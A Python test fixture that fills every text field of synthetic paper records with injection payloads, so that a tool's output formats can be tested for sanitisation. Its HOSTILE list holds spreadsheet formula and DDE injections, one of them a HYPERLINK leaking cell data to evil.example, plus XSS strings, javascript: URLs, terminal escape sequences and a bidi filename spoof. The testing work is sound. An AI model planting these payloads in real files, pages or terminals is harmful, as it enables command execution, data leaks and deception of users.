"""A hostile field: every text a paper carries is an attack on some output format.

A small synthetic field (real crawl, real analysis) in which every text a paper carries — title,
abstract, tldr, venue, author names, fields of study, publication types, DOI and arXiv id, url,
PDF link — starts with a spreadsheet formula or holds HTML, Markdown links, terminal escape
sequences, NULs or bidi overrides; :func:`hostile_notes` adds reading-log notes of the same
kind. The tests of every output format (tests/test_hostile_outputs.py) and of the terminal
run it through.
"""

from __future__ import annotations

from pathlib import Path

#: The attacks, each one a text a paper field can carry.
HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTab=1+1",
    "\rCR=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1)) and <javascript:alert(2)>",
    "\x1b[31mred\x1b[0m \x1b[2J\x1b]0;pwned title\x07",
    "\x1b]8;;https://evil.example\x1b\\a safe-looking link\x1b]8;;\x1b\\",
    "nul\x00byte and bell\x07 and backspace\x08",
    "RTL \u202egnp.exe override",
    "# heading\n\n* list <b>bold</b> `code` ![img](http://evil.example/x.png)",
)

#: Characters no terminal, XML or Markdown output may carry raw.
ESC, NUL, RLO = "\x1b", "\x00", "\u202e"
#: What a terminal acts on: C0 but TAB and LF, DEL, C1, bidi embeddings/overrides/isolates.
TERMINAL_CONTROLS = frozenset(
    [*map(chr, range(0x00, 0x09)), *map(chr, range(0x0B, 0x20)), *map(chr, range(0x7F, 0xA0))]
    + [*map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))]
)


def hostile_records(n_papers: int = 200, seed: int = 3) -> tuple[list[dict], list[dict]]:
    """S2 records of a synthetic field with an attack in every text field of every paper."""
    from mentalmap.synthetic import generate_field

    papers, citations = generate_field(n_papers=n_papers, seed=seed).to_s2_records()
    for i, paper in enumerate(papers):
        attack = HOSTILE[i % len(HOSTILE)]
        other = HOSTILE[(i + 7) % len(HOSTILE)]
        paper["title"] = f"{attack} {paper.get('title') or ''}"
        paper["abstract"] = f"{other} {paper.get('abstract') or ''}"
        paper["venue"] = other
        paper["tldr"] = {"model": "tldr@v2.0.0", "text": attack}
        paper["authors"] = [
            {"authorId": f"a{i}", "name": attack},
            {"authorId": f"b{i % 9}", "name": f"{other} Jr."},
        ]
        paper["fieldsOfStudy"] = [attack, "Computer Science"]
        paper["publicationTypes"] = [other]
        paper["externalIds"] = {**(paper.get("externalIds") or {}), "DOI": attack, "ArXiv": other}
        paper["url"] = "javascript:alert(document.domain)//" + attack
        paper["openAccessPdf"] = {"url": f"javascript:alert(1)//{other}", "status": "GREEN"}
    return papers, citations


def hostile_store(path: Path) -> tuple[Path, str]:
    """Crawl the hostile field into a new store at ``path``; return it and the seed id."""
    from mentalmap.crawl import CrawlSettings, crawl
    from mentalmap.fake_s2 import Corpus, CorpusSource
    from mentalmap.store import Store

    papers, citations = hostile_records()
    seed = max(papers, key=lambda p: (p.get("year") or 0, p.get("referenceCount") or 0))
    with Store.open(path) as store:
        crawl(
            store,
            CorpusSource(Corpus(papers, citations)),
            [seed["paperId"]],
            CrawlSettings(depth=2, max_papers=400),
        )
    return path, seed["paperId"]


def hostile_notes(db: Path, seed: str) -> None:
    """Log reads of the seed and of a few other papers, each note an attack."""
    from mentalmap.reading_log import log_reading
    from mentalmap.store import Store

    with Store.open(db, create=False) as store:
        others = [r[0] for r in store.conn.execute("SELECT paperId FROM papers LIMIT 4")]
        for i, paper_id in enumerate([seed, *others]):
            log_reading(store, paper_id, "2", HOSTILE[(i * 4) % len(HOSTILE)])
